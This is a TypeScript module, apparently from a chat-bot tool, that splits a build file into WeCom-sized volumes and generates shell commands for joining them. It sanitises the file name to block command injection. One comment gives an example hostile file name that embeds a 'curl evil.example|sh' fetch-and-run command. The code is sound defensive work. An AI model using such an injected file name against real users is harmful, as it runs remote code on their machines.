import { open } from 'node:fs/promises';
import type { FileHandle } from 'node:fs/promises';
import { join } from 'node:path';

import type { Problem } from '../../core/errors.ts';
import { firstGraphemes } from '../../core/text/grapheme.ts';
import { quoted } from '../../core/validate/words.ts';
import { MAX_FILES } from '../files.ts';

export interface Volume {
  /** As the group sees it: `app.zip.001`. */
  name: string;
  path: string;
  size: number;
}

export interface Volumes {
  volumes: Volume[];
  /** What the volumes make when they are joined. */
  name: string;
  commands: JoinCommands;
}

/** One line each, to be run in the folder that the volumes were saved to. */
export interface JoinCommands {
  unix: string;
  cmd: string;
  powershell: string;
}

/** A file that WeCom takes has more than 5 bytes; so has every volume when none may have fewer than this. */
const LEAST_BYTES = 12;

/** Left of WeCom's limit, so that no difference in counting makes a volume one byte too large. */
const MARGIN_BYTES = 64 * 1024;

/** Bytes. A hundred of these still make a command that cmd.exe takes (8191 characters). */
const LONGEST_NAME = 64;

const UNITS: Readonly<Record<string, number>> = { '': 1, k: 1024, m: 1024 * 1024 };

/**
 * Reads how large volumes are to be: `split` for as large as WeCom takes, or `split 10 MB`, `split 500KB`, `split 1048576`.
 *
 * @param maxBytes that WeCom takes in one file.
 */
export function readVolumeBytes(text: string, maxBytes: number): { ok: true; bytes: number } | { ok: false; problem: Problem } {
  const largest = maxBytes - MARGIN_BYTES;
  if (/^\s*split\s*$/i.test(text)) return { ok: true, bytes: largest };
  const [, size = '', unit = ''] = /^\s*split[\s:]+(\d{1,12})\s*([km]?)i?b?\s*$/i.exec(text) ?? [];
  const bytes = Number(size) * (UNITS[unit.toLowerCase()] ?? 1);
  if (bytes >= LEAST_BYTES && bytes <= largest) return { ok: true, bytes };
  const fix = 'Write split for volumes as large as WeCom takes, or a size such as split 10 MB';
  return { ok: false, problem: { path: 'if-too-large', limit: `volumes of ${LEAST_BYTES} to ${largest} bytes`, actual: quoted(text.trim()), fix } };
}

/**
 * Cuts a file into volumes `name.001`, `name.002` … of at most so many bytes, all of nearly the same size: a last one of
 * a few bytes would be refused. The file is unchanged.
 */
export async function splitFile({ path, name, size }: { path: string; name: string; size: number }, volumeBytes: number, folder: string): Promise<{ ok: true; value: Volumes } | { ok: false; problem: Problem }> {
  const count = Math.max(1, Math.ceil(size / volumeBytes));
  if (count > MAX_FILES) {
    const problem = { path: name, limit: `at most ${MAX_FILES} volumes`, actual: `${count} volumes of ${volumeBytes} bytes`, fix: 'Make the volumes larger, or the file smaller' };
    return { ok: false, problem };
  }
  const joined = plainName(name);
  const volumes: Volume[] = [];
  const file = await open(path, 'r');
  try {
    for (let number = 1, start = 0; number <= count; number++) {
      const bytes = Math.floor(size / count) + (number <= size % count ? 1 : 0);
      const volume = { name: `${joined}.${String(number).padStart(3, '0')}`, path: join(folder, `volume-${number}`), size: bytes };
      const copied = await copy(file, start, bytes, volume.path);
      if (copied < bytes) return { ok: false, problem: { path: name, limit: 'a file that stays as it is', actual: 'one that became shorter while it was split', fix: 'Let the step run after what writes the file' } };
      volumes.push(volume);
      start += bytes;
    }
  } finally {
    await file.close();
  }
  return { ok: true, value: { volumes, name: joined, commands: joinCommands(joined, volumes) } };
}

const SLICE_BYTES = 1024 * 1024;

async function copy(file: FileHandle, start: number, bytes: number, target: string): Promise<number> {
  const output = await open(target, 'w', 0o600);
  try {
    const slice = new Uint8Array(Math.min(SLICE_BYTES, bytes));
    let done = 0;
    while (done < bytes) {
      const { bytesRead } = await file.read(slice, 0, Math.min(slice.byteLength, bytes - done), start + done);
      if (bytesRead === 0) break;
      // Not write, which stops short on a disk that is nearly full, and says so only in its result.
      await output.writeFile(slice.subarray(0, bytesRead));
      done += bytesRead;
    }
    return done;
  } finally {
    await output.close();
  }
}

/**
 * The name with which the volumes are joined, of letters and digits of any script and a few signs.
 *
 * The attack: a build's file is called `a$(curl evil.example|sh).zip`, and the group is told to paste a command with it.
 */
function plainName(name: string): string {
  const plain = name.normalize('NFC').replaceAll(/[^\p{L}\p{M}\p{N} ._()-]/gu, '_').replace(/^-/, '_');
  const extension = /\.[\w.]{1,12}$/.exec(plain)?.[0] ?? '';
  return firstGraphemes(plain.slice(0, plain.length - extension.length), LONGEST_NAME - extension.length).trimEnd() + extension;
}

function joinCommands(name: string, volumes: readonly Volume[]): JoinCommands {
  const all = volumes.map((volume) => `"${volume.name}"`).join('+');
  return {
    unix: `cat '${name}'.[0-9][0-9][0-9] > '${name}'`,
    cmd: `copy /b ${all} "${name}"`,
    // Works in both Windows PowerShell and PowerShell 7, whose Get-Content take bytes in different ways.
    powershell: `$o=[IO.File]::Create("$PWD/${name}"); Get-ChildItem '${name}.[0-9][0-9][0-9]' | Sort-Object Name | ForEach-Object { $b=[IO.File]::ReadAllBytes($_.FullName); $o.Write($b,0,$b.Length) }; $o.Close()`,
  };
}
